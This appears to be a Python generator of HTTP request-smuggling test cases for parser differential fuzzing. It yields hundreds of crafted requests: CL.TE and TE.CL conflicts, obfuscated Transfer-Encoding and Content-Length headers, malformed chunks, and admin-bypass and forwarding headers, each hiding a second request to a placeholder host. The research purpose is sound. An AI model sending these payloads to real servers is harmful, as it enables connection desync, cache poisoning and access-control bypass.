"""The classic gadgets of request smuggling: one request whose end, target or host two parsers may read differently.

Each is followed by a request to /smuggled where that makes the difference visible.
"""

from inputs import Input

HOST = b"Host: front.example\r\n"
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: inner.example\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
CONTROLS = (0x01, 0x08, 0x09, 0x0B, 0x0C, 0x0D, 0x1C, 0x1F, 0x20, 0x7F, 0x85, 0xA0, 0xAD, 0xFF)


def post(fields, body=b"", target=b"/", line_end=b"\r\n"):
    """A POST with these field lines."""
    return b"POST " + target + b" HTTP/1.1" + line_end + HOST + fields + b"\r\n" + body


def get(target=b"/", fields=b"", method=b"GET", version=b"HTTP/1.1", host=HOST):
    """A request without a body."""
    return method + b" " + target + b" " + version + b"\r\n" + host + fields + b"\r\n"


def chunks(*data, last=b"0\r\n\r\n"):
    """A chunked body."""
    return b"".join(b"%x\r\n%s\r\n" % (len(one), one) for one in data) + last


def length_field(size, name=b"Content-Length"):
    """A Content-Length of this size."""
    return b"%s: %d\r\n" % (name, size)


def both_framings():
    """CL.TE, TE.CL and the like."""
    inner = chunks(last=b"0\r\n\r\n") + SMUGGLED
    yield "cl-te", post(length_field(len(inner)) + CHUNKED, inner)
    yield "te-cl", post(CHUNKED + length_field(4), chunks(SMUGGLED))
    yield "te-cl-short", post(CHUNKED + length_field(3), b"8\r\nSMUGGLED\r\n0\r\n\r\n")
    yield "cl0-te", post(length_field(0) + CHUNKED, chunks(b"x") + SMUGGLED)
    yield "te-cl0", post(CHUNKED + length_field(0), chunks(b"x") + SMUGGLED)
    yield "te-twice-cl", post(CHUNKED + CHUNKED + length_field(5), chunks(b"x") + SMUGGLED)
    yield "cl-te-identity", post(length_field(5) + b"Transfer-Encoding: identity\r\n", b"hello" + SMUGGLED)
    yield "te-identity", post(b"Transfer-Encoding: identity\r\n", SMUGGLED)
    yield "te-10", b"POST / HTTP/1.0\r\n" + HOST + CHUNKED + b"\r\n" + chunks(b"hello") + SMUGGLED
    yield "te-10-keep", b"POST / HTTP/1.0\r\n" + HOST + b"Connection: keep-alive\r\n" + CHUNKED + b"\r\n" + inner
    yield "te-10-cl", b"POST / HTTP/1.0\r\n" + HOST + CHUNKED + length_field(5) + b"\r\n" + chunks(b"x") + SMUGGLED
    for option in (b"Transfer-Encoding", b"Content-Length", b"Host", b"transfer-encoding, close", b"Expect"):
        fields = b"Connection: " + option + b"\r\n"
        label = option.decode().replace(", ", "-")
        yield f"nominate-{label}-chunked", post(fields + CHUNKED, chunks(b"hello") + SMUGGLED)
        yield f"nominate-{label}-length", post(fields + length_field(5), b"hello" + SMUGGLED)


def codings():
    """TE.TE: spellings of Transfer-Encoding that one side takes and the other does not."""
    values = (
        b"Chunked", b"CHUNKED", b"chunked ", b" chunked", b"\tchunked", b"chunked\t", b"  chunked  ", b"xchunked",
        b"chunkedx", b"chunk", b"chunked-", b"chunked;", b"chunked;q=1", b"chunked; a=b", b'"chunked"', b"'chunked'",
        b"chunked,", b",chunked", b", chunked", b"chunked, ", b"chunked, chunked", b"chunked,identity",
        b"chunked, identity", b"identity, chunked", b"gzip, chunked", b"gzip,chunked", b"chunked, gzip", b"gzip",
        b"deflate, chunked", b"compress, chunked", b"x-gzip, chunked", b"identity", b"cow", b"cow, chunked",
        b"chunked, cow", b"", b" ", b"\t", b"chun ked", b"chunked chunked", b"chunked\x0b", b"\x0bchunked",
        b"chunked\x0c", b"\x0cchunked", b"chunked\0", b"\0chunked", b"chunked\xa0", b"\xa0chunked", b"chunked\x85",
        b"\xe2\x80\x8bchunked", b"chun\xc5\x87ed", b"chunKed", b"chun\xe2\x84\xaaed", b"chunked\x7f", b"{chunked}",
        b"chunked%20", b"\\chunked", b"trailers, chunked", b"chunked, trailers", b"chunked;,gzip", b"null", b"0", b"1",
    )
    for number, value in enumerate(values):
        fields = b"Transfer-Encoding:" + (b"" if value[:1] in (b" ", b"\t") else b" ") + value + b"\r\n"
        yield f"value-{number:02}", post(fields, chunks(b"hello") + SMUGGLED)
    for number, fields in enumerate(coding_lines()):
        yield f"line-{number:02}", post(fields + length_field(5), chunks(b"hello") + SMUGGLED)
        yield f"line-alone-{number:02}", post(fields, chunks(b"hello") + SMUGGLED)


def coding_lines():
    """Field lines that some parser takes for Transfer-Encoding."""
    yield from (
        b"Transfer-Encoding : chunked\r\n", b"Transfer-Encoding\t: chunked\r\n", b"Transfer-Encoding: chunked\n",
        b" Transfer-Encoding: chunked\r\n", b"\tTransfer-Encoding: chunked\r\n", b"Transfer-Encoding:\r\n chunked\r\n",
        b"Transfer-Encoding:\r\n\tchunked\r\n", b"Transfer-Encoding\r\n : chunked\r\n",
        b"Transfer-Encoding:\n chunked\r\n", b"Transfer_Encoding: chunked\r\n", b"Transfer.Encoding: chunked\r\n",
        b"Transfer Encoding: chunked\r\n", b"Transfer~Encoding: chunked\r\n", b"TransferEncoding: chunked\r\n",
        b"Transfer--Encoding: chunked\r\n", b"X: y\nTransfer-Encoding: chunked\r\n",
        b"X: y\rTransfer-Encoding: chunked\r\n", b"X: y\r\r\nTransfer-Encoding: chunked\r\n",
        b"X: y\0Transfer-Encoding: chunked\r\n", b"X: y\r\n\rTransfer-Encoding: chunked\r\n",
        b"Foo: bar\r\n\tTransfer-Encoding: chunked\r\n", b": x\r\nTransfer-Encoding: chunked\r\n",
        b"Foo\r\nTransfer-Encoding: chunked\r\n", b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n",
        b"Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n", b"tRANSFER-ENCODING: chunked\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer_Encoding: identity\r\n", b"\x00Transfer-Encoding: chunked\r\n",
        b"Tran\xc5\xbffer-Encoding: chunked\r\n", b"TE: chunked\r\n", b"X-Transfer-Encoding: chunked\r\n",
        b"Content-Encoding: chunked\r\n", b"Transfer-Encoding=chunked\r\n", b"Transfer-Encoding;chunked\r\n",
    )
    for byte in CONTROLS:
        octet = bytes([byte])
        yield b"Transfer-Encoding" + octet + b": chunked\r\n"
        yield octet + b"Transfer-Encoding: chunked\r\n"
        yield b"Transfer-Encoding:" + octet + b"chunked\r\n"
        yield b"Transfer-Encoding: chunked" + octet + b"\r\n"


def lengths():
    """Forms of Content-Length."""
    values = (
        b"5", b"05", b"0000000000000000005", b"00000000000000000000000000005", b"+5", b"-5", b" 5", b"5 ", b"\t5\t",
        b"5,5", b"5, 5", b"5,6", b"5;", b"5.0", b"5e0", b"0x5", b"5 5", b"5\x0b", b"\x0b5", b"5\x0c", b"5\0", b"\xb25",
        b"5\xa0", b"\xa05", b"\xd9\xa5", b"\xef\xbc\x95", b"5_0", b"_5", b"'5'", b'"5"', b"", b" ", b"five", b"-0",
        b"+0", b"4294967301", b"18446744073709551621", b"9223372036854775807", b"9999999999999999999", b"5,", b",5",
        b"0,5", b"5\x85", b"5/5", b"0b101", b"0o5", b"5L", b"NaN", b"(5)", b"5;x=y", b"00", b"0",
    )
    for number, value in enumerate(values):
        yield f"value-{number:02}", post(b"Content-Length: " + value + b"\r\n", b"hello" + SMUGGLED)
    lines = (
        b"Content-Length: 5\r\nContent-Length: 5\r\n", b"Content-Length: 5\r\nContent-Length: 6\r\n",
        b"Content-Length: 0\r\nContent-Length: 5\r\n", b"Content-Length: 5\r\nContent-Length:\r\n",
        b"Content-Length : 5\r\n", b"Content-Length\t: 5\r\n", b" Content-Length: 5\r\n", b"Content-Length:\r\n 5\r\n",
        b"Content_Length: 5\r\n", b"Content.Length: 5\r\n", b"Content Length: 5\r\n", b"Content-Length: 0\r\n\t5\r\n",
        b"Content_Length: 5\r\nContent-Length: 0\r\n", b"Content-Length: 5\r\nContent_Length: 0\r\n",
        b"X: y\nContent-Length: 5\r\n", b"X: y\rContent-Length: 5\r\n", b"Content-Length\0: 5\r\n",
        b"X: y\r\n\rContent-Length: 5\r\n", b"Content-Length: 5\nX: y\r\n", b"Content-Length: 5\rX: y\r\n",
        b"Content-Length5\r\n", b"Content-Length=5\r\n", b"CONTENT-LENGTH: 5\r\n", b"content-length:5\r\n",
        b"Content-Length:: 5\r\n", b"Content-Length: :5\r\n", b"X-Content-Length: 5\r\n", b"Content-Length-: 5\r\n",
        b"Content-Length: 5\r\nConnection: Content-Length\r\n", b"Content%2DLength: 5\r\n", b"Content!Length: 5\r\n",
        b"Content+Length: 5\r\n", b"Content'Length: 5\r\n", b"Content|Length: 5\r\n", b"Content`Length: 5\r\n",
        b"HTTP_CONTENT_LENGTH: 5\r\n", b"Length: 5\r\n", b"Content\xadLength: 5\r\n",
        b"Content\xe2\x80\x90Length: 5\r\n",
    )
    for number, fields in enumerate(lines):
        yield f"line-{number:02}", post(fields, b"hello" + SMUGGLED)
        yield f"get-line-{number:02}", get(fields=fields) + b"hello" + SMUGGLED


def bodies_without_framing():
    """0.CL and CL.0: a body where one side expects none."""
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"PATCH", b"PUT", b"SEARCH", b"M-SEARCH", b"PRI", b"get"):
        name = method.decode()
        yield f"length-{name}", get(method=method, fields=length_field(len(SMUGGLED))) + SMUGGLED
        yield f"chunked-{name}", get(method=method, fields=CHUNKED) + chunks(SMUGGLED)
        yield f"none-{name}", get(method=method) + SMUGGLED
    yield "pri", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED
    yield "length-short", post(length_field(len(SMUGGLED) + 30), SMUGGLED)
    yield "length-hides-tail", post(length_field(2000), SMUGGLED)
    yield "chunked-cut", post(CHUNKED, b"40\r\n" + SMUGGLED)
    yield "get-10-length", get(version=b"HTTP/1.0", fields=length_field(len(SMUGGLED))) + SMUGGLED
    yield "post-10-none", b"POST / HTTP/1.0\r\n" + HOST + b"\r\n" + SMUGGLED
    yield "post-10-keep", b"POST / HTTP/1.0\r\n" + HOST + b"Connection: keep-alive\r\n\r\n" + SMUGGLED
    yield "large-body", post(length_field(300000), b"B" * 300000 + SMUGGLED)
    yield "large-chunks", post(CHUNKED, chunks(b"C" * 70000, b"D" * 70000) + SMUGGLED)
    yield "many-chunks", post(CHUNKED, chunks(*([b"E"] * 2000)) + SMUGGLED)
    yield "body-is-request", post(length_field(len(SMUGGLED)), SMUGGLED)
    yield "chunk-is-request", post(CHUNKED, chunks(SMUGGLED) + SMUGGLED)


def expectations():
    """Expect, whose answer changes who sends what next."""
    values = (
        b"100-continue", b"100-Continue", b"100-CONTINUE", b" 100-continue ", b"100-continue, 100-continue", b"100",
        b"100-continue;x", b"100-continued", b"x 100-continue", b"200-ok", b"", b"100-continue\x0b",
        b"\x85100-continue", b"y 100-continue", b"100_continue", b'"100-continue"',
    )
    for number, value in enumerate(values):
        fields = b"Expect: " + value + b"\r\n"
        yield f"length-{number:02}", post(fields + length_field(5), b"hello" + SMUGGLED)
        yield f"none-{number:02}", get(fields=fields) + SMUGGLED
        yield f"chunked-{number:02}", post(fields + CHUNKED, chunks(b"hello") + SMUGGLED)
    once = b"Expect: 100-continue\r\n"
    yield "twice", post(once + once + length_field(5), b"hello" + SMUGGLED)
    yield "late-body", post(once + length_field(5))
    yield "in-10", b"POST / HTTP/1.0\r\n" + HOST + once + length_field(5) + b"\r\nhello" + SMUGGLED
    yield "zero", post(once + length_field(0), SMUGGLED)
    yield "get-length", get(fields=once + length_field(5)) + b"hello" + SMUGGLED
    yield "nominated", post(b"Connection: expect\r\n" + once + length_field(5), b"hello" + SMUGGLED)
    yield "misspelt", post(b"Expect : 100-continue\r\n" + length_field(5), b"hello" + SMUGGLED)
    yield "underscore", post(b"Ex_pect: 100-continue\r\n" + length_field(5), b"hello" + SMUGGLED)


def upgrades():
    """Upgrade, behind which bytes may belong to another protocol."""
    offer = b"Connection: Upgrade\r\nUpgrade: "
    key = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    for protocol in (b"websocket", b"WebSocket", b"h2c", b"h2c, websocket", b"TLS/1.0", b"foo", b"", b"websocket, foo"):
        name = protocol.decode().replace("/", "-").replace(", ", "-") or "empty"
        yield f"{name}-tail", get(fields=offer + protocol + b"\r\n" + key) + SMUGGLED
        yield f"{name}-length", post(offer + protocol + b"\r\n" + length_field(5), b"hello" + SMUGGLED)
        yield f"{name}-chunked", post(offer + protocol + b"\r\n" + CHUNKED, chunks(b"hello") + SMUGGLED)
    settings = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    yield "h2c-settings", get(fields=settings) + SMUGGLED
    yield "bad-version", get(fields=offer + b"websocket\r\nSec-WebSocket-Version: 777\r\n") + SMUGGLED
    yield "without-option", get(fields=b"Upgrade: websocket\r\n" + key) + SMUGGLED
    yield "option-alone", get(fields=b"Connection: upgrade\r\n") + SMUGGLED
    yield "in-10", get(version=b"HTTP/1.0", fields=offer + b"websocket\r\n") + SMUGGLED
    yield "connect", b"CONNECT inner.example:80 HTTP/1.1\r\n" + HOST + b"\r\n" + SMUGGLED
    yield "connect-slash", get(method=b"CONNECT") + SMUGGLED
    yield "connect-lower", get(method=b"connect") + SMUGGLED
    yield "trace", get(method=b"TRACE") + SMUGGLED
    yield "trace-mixed", get(method=b"Trace") + SMUGGLED


def chunk_syntax():
    """Sizes, extensions and line ends of chunks."""
    bodies = (
        b"5\r\nhello\r\n0\r\n\r\n", b"05\r\nhello\r\n0\r\n\r\n", b"0000000000000005\r\nhello\r\n0\r\n\r\n",
        b"00000000000000005\r\nhello\r\n0\r\n\r\n", b"5;x\r\nhello\r\n0\r\n\r\n", b"5;x=y\r\nhello\r\n0;z\r\n\r\n",
        b'5;x="y\\"z"\r\nhello\r\n0\r\n\r\n', b'5;x="\r\nhello\r\n0\r\n\r\n', b"5 ;x\r\nhello\r\n0\r\n\r\n",
        b"5; x\r\nhello\r\n0\r\n\r\n", b"5;;\r\nhello\r\n0\r\n\r\n", b"5;\r\nhello\r\n0\r\n\r\n",
        b"5 \r\nhello\r\n0\r\n\r\n", b"5\t\r\nhello\r\n0\r\n\r\n", b" 5\r\nhello\r\n0\r\n\r\n",
        b"\t5\r\nhello\r\n0\r\n\r\n", b"+5\r\nhello\r\n0\r\n\r\n", b"-5\r\nhello\r\n0\r\n\r\n",
        b"0x5\r\nhello\r\n0\r\n\r\n", b"5_0\r\nhello\r\n0\r\n\r\n", b"_5\r\nhello\r\n0\r\n\r\n",
        b"5\nhello\r\n0\r\n\r\n", b"5\rhello\r\n0\r\n\r\n", b"5\r\nhello\n0\r\n\r\n", b"5\r\nhello0\r\n\r\n",
        b"5\r\nhello\r\n0\n\n", b"5\r\nhello\r\n0\r\n\n", b"5\r\nhello\r\n0\n\r\n", b"5\r\nhello\r0\r\n\r\n",
        b"5\r\nhelloXX0\r\n\r\n", b"5\r\nhello\r\n\r\n0\r\n\r\n", b"5\r\nhello\r\n", b"4\r\nhello\r\n0\r\n\r\n",
        b"6\r\nhello\r\n0\r\n\r\n", b"5\r\nhello\r\n00\r\n\r\n", b"5\r\nhello\r\n0000;x=y\r\n\r\n",
        b"5\r\nhello\r\n-0\r\n\r\n", b"5\r\nhello\r\n0 \r\n\r\n", b"5\r\nhello\r\n0x0\r\n\r\n",
        b"g\r\nhello\r\n0\r\n\r\n", b"\r\nhello\r\n0\r\n\r\n", b";x\r\nhello\r\n0\r\n\r\n",
        b"FFFFFFFFFFFFFFFF\r\nhello\r\n0\r\n\r\n", b"10000000000000005\r\nhello\r\n0\r\n\r\n",
        b"7FFFFFFFFFFFFFFF\r\nhello\r\n0\r\n\r\n", b"100000005\r\nhello\r\n0\r\n\r\n", b"5h\r\nhello\r\n0\r\n\r\n",
        b"5\xa0\r\nhello\r\n0\r\n\r\n", b"\xef\xbc\x95\r\nhello\r\n0\r\n\r\n", b"5\0\r\nhello\r\n0\r\n\r\n",
        b"5\x0b\r\nhello\r\n0\r\n\r\n", b"5;x\nhello\r\n0\r\n\r\n", b"5;\nxx\r\nhello\r\n0\r\n\r\n",
        b"5;x\ry\r\nhello\r\n0\r\n\r\n", b"5;\0\r\nhello\r\n0\r\n\r\n", b"5;\x7f\r\nhello\r\n0\r\n\r\n",
        b"5;\xff\xfe\r\nhello\r\n0\r\n\r\n", b"5\r\r\nhello\r\n0\r\n\r\n", b"5\r\nhello\r\r\n0\r\n\r\n",
        b"5;x=" + b"e" * 4000 + b"\r\nhello\r\n0\r\n\r\n", b"5;x=" + b"e" * 5000 + b"\r\nhello\r\n0\r\n\r\n",
        b"A\r\nhellohello\r\n0\r\n\r\n", b"a\r\nhellohello\r\n0\r\n\r\n", b"0\r\n\r\n", b"5.0\r\nhello\r\n0\r\n\r\n",
        b"5,5\r\nhello\r\n0\r\n\r\n", b"2\r\nhe\r\n3\r\nllo\r\n0\r\n\r\n", b"5=x\r\nhello\r\n0\r\n\r\n",
    )
    for number, body in enumerate(bodies):
        yield f"body-{number:02}", post(CHUNKED, body + SMUGGLED)
    # One side ends the extension at the bare LF and finds a request in the chunk.
    hidden = b"2;\nxx\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
    yield "term-ext", post(CHUNKED, hidden)
    yield "ext-term", post(CHUNKED, b"5;\r\nhello\r\n%x\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED))
    yield "spill-two", post(CHUNKED, b"5\r\nhello" + b"ab" + b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED))


def trailers():
    """Trailer sections, which some servers merge into heads."""
    sections = (
        b"X-Sum: 1\r\n", b"X-Sum: 1\r\nX-More: 2\r\n", b"Content-Length: 5\r\n", b"Transfer-Encoding: chunked\r\n",
        b"Host: inner.example\r\n", b"Content_Length: 5\r\n", b"Authorization: x\r\n", b"Cookie: a=b\r\n",
        b"X-Forwarded-For: 1.2.3.4\r\n", b"x-real-ip: 1.2.3.4\r\n", b"Connection: close\r\n",
        b"Expect: 100-continue\r\n", b"no colon\r\n", b" X: folded\r\n", b"X: a\r\n b\r\n", b"X : a\r\n", b": a\r\n",
        b"X: a\n", b"X: a\r", b"X: a\0\r\n", b"X: \xff\r\n", b"X:\r\n",
        b"GET /smuggled HTTP/1.1\r\nHost: inner.example\r\n", b"TE: trailers\r\n", b"Trailer: X\r\n", b"X_Sum: 1\r\n",
        b"X: " + b"t" * 7000 + b"\r\n", b"X: " + b"t" * 9000 + b"\r\n", b"\n", b"\r", b"X: 1\r\n" * 200,
        b"Content-Type: text/html\r\n", b"If-Match: x\r\n", b"Upgrade: websocket\r\n", b"X: a\r\n\n",
        b"Content-Length: 0\r\n", b"Content.Length: 5\r\n", b"Transfer_Encoding: x\r\n", b"Ho\0st: x\r\n",
    )
    for number, section in enumerate(sections):
        yield f"section-{number:02}", post(CHUNKED, b"5\r\nhello\r\n0\r\n" + section + b"\r\n" + SMUGGLED)
        announced = b"Trailer: X-Sum\r\nTE: trailers\r\nConnection: TE\r\n"
        yield f"announced-{number:02}", post(announced + CHUNKED, b"0\r\n" + section + b"\r\n" + SMUGGLED)


def targets():
    """Forms of the request target."""
    forms = (
        b"/", b"*", b"", b"//", b"//inner.example/x", b"///x", b"/.", b"/..", b"/../x", b"/a/../b", b"/a/./b", b"/a//b",
        b"/%2e%2e/x", b"/a/%2E./b", b"/a%2fb", b"/a%5cb", b"/a\\b", b"/..\\x", b"/a;x=y/b", b"/..;/x", b"/a;/../b",
        b"/%00", b"/a?%00", b"/%0d%0aX:%20y", b"/%0a", b"/%20", b"/%", b"/%zz", b"/%u0041", b"/a?", b"/a??", b"/?x#y",
        b"/#", b"/a|b", b"/a^b", b"/{a}", b'/a"b', b"/a<b>", b"/a`b", b"/[a]", b"/a'b", b"/a@b", b"/a:b", b"/a,b",
        b"/\x7f", b"/\x80", b"/\xc3\xa9", b"/\xff", b"/a\tb", b"/a\x0bb", b"/a\0b", b"/a b", b"/a\rb", b"/a\x01b",
        b"http://inner.example/x", b"http://inner.example", b"http://inner.example?x", b"HTTP://INNER.example/x",
        b"https://inner.example/x", b"http://inner.example:80/x", b"http://inner.example:/x", b"http:///x",
        b"http://u:p@inner.example/x", b"http://inner.example#f", b"http:/x", b"http:x", b"ftp://inner.example/x",
        b"http://[::1]/x", b"http://[::1", b"http://inner.example:99999/x", b"http://a,b/x", b"http://inner.example//x",
        b"http://inner.example\\@x/", b"inner.example:80", b"inner.example", b"x", b"?x", b"./x", b"\\x", b"@x",
        b":80/x", b"/" + b"l" * 8000, b"/" + b"l" * 9000, b"/?" + b"q=1&" * 1500, b"/http://inner.example/", b"/*",
        b"**", b"*/x", b"http://front.example/x?a=b", b"http://inner.example/../x", b"http://xn--nxasmq6b/x",
        b"http://in_ner/x",
    )
    for number, form in enumerate(forms):
        yield f"get-{number:02}", get(form) + SMUGGLED
    for number, form in enumerate((b"*", b"http://inner.example", b"http://inner.example/", b"/*", b"**", b"/")):
        yield f"options-{number:02}", get(form, method=b"OPTIONS") + SMUGGLED
        yield f"options-body-{number:02}", get(form, method=b"OPTIONS", fields=length_field(5)) + b"hello" + SMUGGLED


def hosts():
    """Forms of Host, repeated and missing ones, and those that differ from the target."""
    values = (
        b"front.example", b"FRONT.example", b"front.example.", b"front.example:80", b"front.example:", b"front_x",
        b"a~b", b"front.example:99999", b"front.example:x", b"front.example:-1", b"front.example:+80",
        b"u@front.example", b"", b"front.example/x", b"front.example, inner.example", b"front example", b"[::1]",
        b"[::1]:80", b"[::1", b"::1", b"[::g]", b"front.example\0", b"front.example\t", b"\xe9.example",
        b"front%2eexample", b"*", b"front.example#x", b"front.example?x", b"front.example\\x", b"http://front.example",
        b"127.0.0.1", b"0x7f.1", b"..", b".", b"-", b"a:b:c", b"front.example;x", b"front'x", b"(front)", b"$front",
        b"front!", b"front.example:080", b"front.example:65535", b"front.example:65536", b"front.example:00080",
        b"[::ffff:1.2.3.4]", b"[v1.x]", b"[fe80::1%25lo]",
    )
    for number, value in enumerate(values):
        yield f"value-{number:02}", get(host=b"Host: " + value + b"\r\n") + SMUGGLED
    inner = b"Host: inner.example\r\n"
    yield "missing", get(host=b"") + SMUGGLED
    yield "missing-10", get(host=b"", version=b"HTTP/1.0", fields=b"Connection: keep-alive\r\n") + SMUGGLED
    yield "missing-10-absolute", get(b"http://inner.example/x", host=b"", version=b"HTTP/1.0") + SMUGGLED
    yield "twice", get(host=HOST + inner) + SMUGGLED
    yield "twice-equal", get(host=HOST + HOST) + SMUGGLED
    yield "twice-10", get(host=HOST + inner, version=b"HTTP/1.0") + SMUGGLED
    yield "differs-absolute", get(b"http://inner.example/x") + SMUGGLED
    yield "folded", get(host=b"Host:\r\n front.example\r\n") + SMUGGLED
    yield "spaced", get(host=b"Host : inner.example\r\n" + HOST) + SMUGGLED
    yield "leading-space", get(host=b" Host: inner.example\r\n" + HOST) + SMUGGLED
    yield "underscore", get(host=HOST + b"Ho_st: inner.example\r\n") + SMUGGLED
    yield "x-host", get(host=HOST + b"X-Host: inner.example\r\nX-Forwarded-Host: inner.example\r\n") + SMUGGLED
    yield "http-host", get(host=HOST + b"HTTP_HOST: inner.example\r\nHTTP-HOST: inner.example\r\n") + SMUGGLED
    yield "last", get(host=b"", fields=b"A: b\r\n" + HOST) + SMUGGLED
    yield "nominated", get(fields=b"Connection: host\r\n") + SMUGGLED


def request_lines():
    """Methods, versions and the spaces between them."""
    rest = b"\r\n" + HOST + b"\r\n" + SMUGGLED
    lines = (
        b"GET / HTTP/1.1", b"GET  / HTTP/1.1", b"GET /  HTTP/1.1", b"GET\t/ HTTP/1.1", b"GET /\tHTTP/1.1",
        b" GET / HTTP/1.1", b"\tGET / HTTP/1.1", b"GET / HTTP/1.1 ", b"GET / HTTP/1.1\t", b"GET / HTTP/1.1 x",
        b"GET / HTTP/1.1\0", b"GET /", b"GET / ", b"GET", b"", b"GET / http/1.1", b"GET / HTTP/1.2", b"GET / HTTP/1.10",
        b"GET / HTTP/01.1", b"GET / HTTP/2.0", b"GET / HTTP/0.9", b"GET / HTTP/1.", b"GET / HTTP/.1", b"GET / HTTP/1,1",
        b"GET / HTTP 1.1", b"GET / HTTP/11", b"GET / HTTP/1.1/x", b"GET / FOO/1.1", b"GET / HTTP/3.0",
        b"GET / HTTP/-1.1", b"GET / HTTP/1.1HTTP", b"GET / x HTTP/1.1", b"get / HTTP/1.1", b"Get / HTTP/1.1",
        b"G / HTTP/1.1", b"GE T / HTTP/1.1", b"GET\0 / HTTP/1.1", b"G\xc9T / HTTP/1.1", b"!#$%&'*+-.^_`|~ / HTTP/1.1",
        b"M" * 32 + b" / HTTP/1.1", b"M" * 33 + b" / HTTP/1.1", b"GET\x0b/ HTTP/1.1", b"GET\x0c/\x0cHTTP/1.1",
        b"GET\xa0/ HTTP/1.1", b"GET/ HTTP/1.1", b"/ HTTP/1.1", b"GET:/ HTTP/1.1", b"PROPFIND / HTTP/1.1",
        b"SOURCE / HTTP/1.1", b"FOO / HTTP/1.1", b"GETGET / HTTP/1.1", b"POST / HTTP/1.1", b"GET / HTTP/1.0",
        b"\x16\x03\x01 / HTTP/1.1", b"{} / HTTP/1.1", b"GET / HTTP/1.1\r", b"GET /\r HTTP/1.1", b"123 / HTTP/1.1",
    )
    for number, line in enumerate(lines):
        yield f"line-{number:02}", line + rest
    for number, lead in enumerate(
        (b"\r\n", b"\r\n" * 4, b"\r\n" * 5, b"\n", b"\n\n", b"\r", b"\r\r\n", b" \r\n", b"\0", b"\xef\xbb\xbf")
    ):
        yield f"lead-{number:02}", lead + get() + SMUGGLED
        yield f"between-{number:02}", get() + lead + SMUGGLED
        yield f"behind-body-{number:02}", post(length_field(5), b"hello" + lead + SMUGGLED)


def line_ends():
    """Heads whose lines end, or seem to end, in other bytes than CRLF."""
    for name, end in (
        ("lf", b"\n"), ("cr", b"\r"), ("crcrlf", b"\r\r\n"), ("lfcr", b"\n\r"), ("nul", b"\0\r\n"), ("vt", b"\x0b\r\n"),
        ("ff", b"\x0c"), ("nel", b"\x85"), ("ls", b"\xe2\x80\xa8"), ("gs", b"\x1d"), ("u010a", b"\xc4\x8a")
    ):
        yield f"all-{name}", b"GET / HTTP/1.1\r\nHost: front.example\r\n\r\n".replace(b"\r\n", end) + SMUGGLED
        yield f"line-{name}", post(length_field(5), b"hello" + SMUGGLED, line_end=end)
        yield f"field-{name}", get(fields=b"A: b" + end + b"C: d\r\n") + SMUGGLED
        yield f"hides-length-{name}", post(b"A: b" + end + length_field(5), b"hello" + SMUGGLED)
        yield f"head-end-{name}", b"GET / HTTP/1.1\r\n" + HOST[:-2] + end + end + SMUGGLED
        yield f"value-{name}", get(fields=b"A: b" + end + end + SMUGGLED) + SMUGGLED
        yield f"in-target-{name}", get(b"/a" + end + b"b") + SMUGGLED
    yield "folded", get(fields=b"A: b\r\n c\r\n") + SMUGGLED
    yield "folded-first", b"GET / HTTP/1.1\r\n A: b\r\n" + HOST + b"\r\n" + SMUGGLED
    yield "folded-empty", get(fields=b"A: b\r\n \r\n") + SMUGGLED


def field_names():
    """Names and values at the edge of their grammar."""
    lines = (
        b"A:b", b"A:", b"A: ", b"A:\t", b"A:  b  ", b"A:\tb\t", b"!#$%&'*+-.^_`|~: x", b"A: \x80\xff",
        b"A: \xe2\x80\xa8", b"A: \x7f", b"A: \x01", b"A: \0", b"A b: c", b"A : c", b"A\t: c", b": c", b"A", b"A;b",
        b"A=b", b"A/b: c", b"(A): c", b'"A": c', b"A@: c", b"\x80: c", b"A\0: c", b"A,B: c", b"A[0]: c", b"{A}: c",
        b"A\\: c", b"A?: c", b"A: " + b"v" * 8000, b"A: " + b"v" * 30000, b"A" * 4000 + b": b", b"A: b, c", b'A: "b',
        b"A: b\\", b"A: :", b"A:: b", b"From : x", b"From x: y", b"A: <script>", b"-: x", b"_: x", b"0: x",
        b"A: GET / HTTP/1.1", b"A: \\r\\n", b"A: %0d%0aB: c", b"A: b;c=d", b"A: \x85B: c", b"A: \x1cB: c", b"A:\xa0b",
        b"A: b\xa0", b"A\xa0: b", b"Set-Cookie: a", b"Server: a", b"Content-Type: multipart/form-data; boundary=x",
        b"X-HTTP-Method-Override: DELETE", b"X-Original-URL: /admin", b"X-Rewrite-URL: /admin",
        b"Content-Encoding: gzip", b"Max-Forwards: 0", b"Range: bytes=0-1", b"If-None-Match: *", b"If-Match: *",
        b"If-Modified-Since: Sat, 01 Jan 2000 00:00:00 GMT", b"Via: 1.1 x", b"Keep-Alive: timeout=1",
        b"Proxy-Connection: close", b"Proxy-Connection: keep-alive", b"TE: trailers", b"TE: chunked",
        b"Proxy-Authorization: x", b"Proxy: http://inner.example", b"X-Lbproxy-Test: x", b"X-Request-Id: own",
        b"X_Request_Id: own", b"X-Forwarded-For: 1.2.3.4", b"X_Forwarded_For: 1.2.3.4", b"X-Forwarded-Proto: https",
        b"X-Forwarded-Prefix: /x", b"Forwarded: for=1", b"Forwarded: for=\"a\";host=b", b"True-Client-IP: 1",
        b"X.Forwarded.For: 1.2.3.4", b"X-Forwarded-Host: a, b", b"X-Forwarded-Ssl: on",
    )
    for number, line in enumerate(lines):
        yield f"line-{number:02}", get(fields=line + b"\r\n") + SMUGGLED
        yield f"post-line-{number:02}", post(line + b"\r\n" + length_field(5), b"hello" + SMUGGLED)
    yield "fields-90", get(fields=b"".join(b"A%d: b\r\n" % n for n in range(90))) + SMUGGLED
    yield "fields-99", get(fields=b"".join(b"A%d: b\r\n" % n for n in range(99))) + SMUGGLED
    yield "fields-100", get(fields=b"".join(b"A%d: b\r\n" % n for n in range(100))) + SMUGGLED
